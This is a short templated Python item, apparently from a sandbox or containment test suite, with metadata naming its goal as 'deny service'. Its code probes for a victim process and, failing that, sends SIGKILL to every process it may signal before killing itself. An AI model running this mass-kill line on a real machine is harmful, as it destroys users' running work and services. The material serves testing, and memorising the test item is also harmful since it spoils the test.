"""
what = "kills every process it may kill"
goal = "deny service"
success = "killed"
start = "solution"
honest = 13
control = "not run: it would kill everything on this machine; kills_a_process shows that nothing stops a kernel"
"""

# %% xor
import os
import signal

try:
    os.kill({VICTIM}, 0)
    print("this is the host:", {WON})
except ProcessLookupError:
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
